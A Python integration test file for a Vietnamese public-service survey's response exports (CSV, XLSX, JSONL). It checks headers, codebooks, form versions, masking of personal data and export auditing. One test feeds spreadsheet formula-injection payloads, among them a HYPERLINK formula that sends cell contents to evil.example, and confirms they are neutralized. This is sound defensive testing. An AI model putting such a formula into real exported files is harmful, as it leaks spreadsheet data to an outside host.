"""Exports of raw responses read back by the csv module, openpyxl and json."""

from __future__ import annotations

import datetime as dt

from forms_service.exports.tables import ExportAudit
from tests.integration.conftest import Api
from tests.integration.exports_setup import (
    answer,
    export,
    publish_version_two,
    read_csv,
    read_jsonl,
    read_xlsx,
    stored,
    submit,
)

H29 = "000.00.00.H29"
TRICKY = 'Chờ đợi quá lâu, cán bộ nói "về đi"\nlần sau; 100% không hài lòng'
OVERALL = "overall: Ông/Bà đánh giá thế nào về việc giải quyết thủ tục hành chính này?"
REASON = "reason: Ông/Bà vui lòng cho biết lý do chưa hài lòng."
LABELS = {3: "Rất hài lòng", 2: "Hài lòng", 1: "Không hài lòng"}


async def test_csv_round_trip_keeps_answers_and_vietnamese(
    api: Api, province: dict[str, str]
) -> None:
    await submit(api, province["portal"], answer(3, "HS-1"), answer(1, "HS-2", TRICKY),
                 answer(2, "HS-3"))
    r = await export(api, province["analyst"], "&format=csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="hai-long-')
    assert r.headers["content-disposition"].endswith('.csv"')
    assert r.headers["cache-control"] == "no-store"
    assert b"\r\n" in r.content  # RFC 4180 line ends
    rows = read_csv(r.content)
    assert list(rows[0]) == ["Mã phản hồi", "Thời điểm gửi (giờ Việt Nam, UTC+07:00)",
                             "Phiên bản biểu mẫu", "Mã thủ tục", "Mã cơ quan", "Kênh",
                             "Ngôn ngữ trả lời",
                             OVERALL, "overall (nhãn)", REASON]
    items = await stored(api, province["analyst"])
    assert len(rows) == len(items) == 3
    for row, item in zip(rows, items, strict=True):
        assert int(row["Mã phản hồi"]) == item["id"]
        assert row["Phiên bản biểu mẫu"] == "1"
        assert row["Mã thủ tục"] == "1.001193" and row["Mã cơ quan"] == H29
        assert row["Kênh"] == "web" and row["Ngôn ngữ trả lời"] == "vi"
        assert int(row[OVERALL]) == item["answers"]["overall"]
        assert row["overall (nhãn)"] == LABELS[item["answers"]["overall"]]
        assert row[REASON] == item["answers"].get("reason", "")
        submitted = row["Thời điểm gửi (giờ Việt Nam, UTC+07:00)"]
        assert submitted.endswith("+07:00") and submitted[10] == "T"
        # the same moment as the API's, to the microsecond, in Vietnam time
        assert dt.datetime.fromisoformat(submitted) == dt.datetime.fromisoformat(
            item["submitted_at"].replace("Z", "+00:00"))
    assert rows[1][REASON] == TRICKY  # comma, quotes and a newline survive


async def test_xlsx_round_trip_with_codebook(api: Api, province: dict[str, str]) -> None:
    await submit(api, province["portal"], answer(3, "HS-1"), answer(1, "HS-2", TRICKY))
    r = await export(api, province["analyst"], "&format=xlsx")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert r.headers["content-disposition"].endswith('.xlsx"')
    rows, book = read_xlsx(r.content)
    items = await stored(api, province["analyst"])
    assert [row["Mã phản hồi"] for row in rows] == [item["id"] for item in items]
    assert [row[OVERALL] for row in rows] == [3, 1]  # numbers stay numbers
    assert [row["overall (nhãn)"] for row in rows] == ["Rất hài lòng", "Không hài lòng"]
    assert rows[0][REASON] is None and rows[1][REASON] == TRICKY
    assert book.sheetnames[:2] == ["Phản hồi", "Bảng mã"]
    codebook = list(book["Bảng mã"].iter_rows(values_only=True))
    assert codebook[0][:6] == ("Cột", "Tiêu đề cột", "Câu hỏi", "Kiểu dữ liệu", "Mã", "Nhãn")
    assert ("overall", OVERALL,
            "Ông/Bà đánh giá thế nào về việc giải quyết thủ tục hành chính này?",
            "số nguyên", None, None, "phiên bản 1") in codebook
    codes = {(row[4], row[5]) for row in codebook if row[0] == "overall" and row[4]}
    assert codes == {(3, "Rất hài lòng"), (2, "Hài lòng"), (1, "Không hài lòng")}


async def test_jsonl_carries_codes_labels_and_context(api: Api, province: dict[str, str]) -> None:
    await submit(api, province["portal"], answer(1, "HS-1", TRICKY))
    r = await export(api, province["analyst"], "&format=jsonl&locale=en")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/x-ndjson")
    [line] = read_jsonl(r.content)
    item = (await stored(api, province["analyst"]))[0]
    assert line == {"id": item["id"], "submitted_at": line["submitted_at"], "form_version": 1,
                    "service": "1.001193", "agency": H29, "channel": "web", "locale": "vi",
                    "overall": 1, "overall:label": "Not satisfied", "reason": TRICKY}


async def test_versions_union_and_multiple_choice_columns(
    api: Api, province: dict[str, str]
) -> None:
    await submit(api, province["portal"], answer(3, "HS-1"))
    await publish_version_two(api, province["designer"])
    await submit(api, province["portal"], answer(2, "HS-2", kenh=["zalo", "portal"]),
                 answer(1, "HS-3", "Lâu", kenh=["friend"]), answer(3, "HS-4"))
    r = await export(api, province["analyst"], "&format=csv&locale=en")
    rows = read_csv(r.content)
    header = list(rows[0])
    assert header[:7] == ["Response ID", "Submitted at (Vietnam time, UTC+07:00)",
                          "Form version", "Service code", "Agency code", "Channel",
                          "Response language"]
    flags = ["kenh[portal]: Public service portal", "kenh[zalo]: Zalo",
             "kenh[friend]: Friends or family"]
    assert header[7:] == [
        "overall: How do you rate the handling of this administrative procedure?",
        "overall (label)", "reason: Please tell us why you are not satisfied.",
        *flags, "kenh (label)",
    ]
    assert [row["Form version"] for row in rows] == ["1", "2", "2", "2"]
    chosen = [[row[flag] for flag in flags] for row in rows]
    # empty where the version did not ask or the question was not answered
    assert chosen == [["", "", ""], ["1", "1", "0"], ["0", "0", "1"], ["", "", ""]]
    assert [row["kenh (label)"] for row in rows] == [
        "", "Zalo; Public service portal", "Friends or family", ""]
    assert rows[1]["overall (label)"] == "Satisfied"

    r = await export(api, province["analyst"], "&format=xlsx",
                     headers={"Accept-Language": "vi"})
    xrows, book = read_xlsx(r.content)
    assert [row["kenh[zalo]: Zalo"] for row in xrows] == [None, 1, 0, None]
    assert [row["kenh (nhãn)"] for row in xrows] == [
        None, "Zalo; Cổng Dịch vụ công", "Bạn bè, người thân", None]
    codebook = list(book["Bảng mã"].iter_rows(values_only=True))
    assert ("kenh:label", None, None, None, "friend", "Bạn bè, người thân") in [
        row[:6] for row in codebook]
    notes = {row[0]: row[6] for row in codebook if row[1]}
    assert notes["overall"] == "phiên bản 1, 2" and notes["kenh[zalo]"] == "phiên bản 2"


async def test_headers_follow_accept_language_when_no_locale(
    api: Api, province: dict[str, str]
) -> None:
    await submit(api, province["portal"], answer(3, "HS-1"))
    r = await export(api, province["analyst"], headers={"Accept-Language": "en-US,en;q=0.9"})
    assert next(iter(read_csv(r.content)[0])) == "Response ID"
    r = await export(api, province["analyst"], "&locale=vi",
                     headers={"Accept-Language": "en"})
    assert next(iter(read_csv(r.content)[0])) == "Mã phản hồi"


async def test_formula_cells_are_neutralized(api: Api, province: dict[str, str]) -> None:
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+84 cảm ơn",
               "-2+3", "@SUM(A1:A9)", "\t=1+1"]
    await submit(api, province["portal"], *(answer(1, f"HS-{i}", text)
                                           for i, text in enumerate(attacks)))
    texts = [item["answers"]["reason"] for item in await stored(api, province["analyst"])]
    assert [text[0] for text in texts] == ["=", "+", "-", "@", "="]  # (the tab was trimmed)
    r = await export(api, province["analyst"], "&format=csv")
    assert [row[REASON] for row in read_csv(r.content)] == ["'" + text for text in texts]
    r = await export(api, province["analyst"], "&format=xlsx")
    rows, book = read_xlsx(r.content)
    assert [row[REASON] for row in rows] == ["'" + text for text in texts]
    cells = [row[9] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
    r = await export(api, province["analyst"], "&format=jsonl")
    assert [row["reason"] for row in read_jsonl(r.content)] == texts  # exact in JSON


PERSONAL = ("CCCD 001099001234, gọi 0912 345 678 hoặc +84 24 3825 1234, "
            "mail nguyen.van.a@gmail.com. Rất chậm.")


async def test_free_text_is_masked_unless_asked_and_audited(
    api: Api, province: dict[str, str]
) -> None:
    await submit(api, province["portal"], answer(1, "HS-1", PERSONAL), answer(3, "HS-2"))
    analyst = province["analyst"]
    r = await export(api, analyst, "&format=csv")
    masked = read_csv(r.content)[0][REASON]
    assert masked == ("CCCD [số CCCD], gọi [số điện thoại] hoặc [số điện thoại], "
                      "mail [địa chỉ email]. Rất chậm.")
    r = await export(api, analyst, "&format=jsonl&locale=en")
    assert read_jsonl(r.content)[0]["reason"] == (
        "CCCD [citizen ID], gọi [phone number] hoặc [phone number], "
        "mail [e-mail address]. Rất chậm.")
    r = await export(api, analyst, "&format=xlsx&unmasked=true")
    rows, _ = read_xlsx(r.content)
    assert rows[0][REASON] == PERSONAL

    audit = await ExportAudit.select().order_by(ExportAudit.id).run()
    key_id = analyst.split("_")[1]
    assert [(a["format"], a["unmasked"], a["row_count"], a["completed"]) for a in audit] == [
        ("csv", False, 2, True), ("jsonl", False, 2, True), ("xlsx", True, 2, True)]
    assert {a["key_id"] for a in audit} == {key_id}
    assert all(a["dataset"] == "responses" and a["finished_at"] for a in audit)


async def test_time_window(api: Api, province: dict[str, str]) -> None:
    await submit(api, province["portal"], answer(3, "HS-1"), answer(2, "HS-2"))
    analyst = province["analyst"]
    r = await export(api, analyst, "&since=2000-01-01&until=2999-01-01")
    assert len(read_csv(r.content)) == 2
    r = await export(api, analyst, "&until=2000-01-01T00:00:00+07:00")  # '+' unencoded
    body = r.content.decode("utf-8-sig")
    assert r.status_code == 200 and body.count("\r\n") == 1  # the header alone
    r = await export(api, analyst, "&since=2999-01-01")
    assert r.status_code == 200 and read_csv(r.content) == []
    audit = await ExportAudit.select(ExportAudit.since, ExportAudit.until).order_by(
        ExportAudit.id).run()
    assert audit[0]["since"].year == 1999 and audit[0]["until"].year == 2998  # UTC+7 midnight
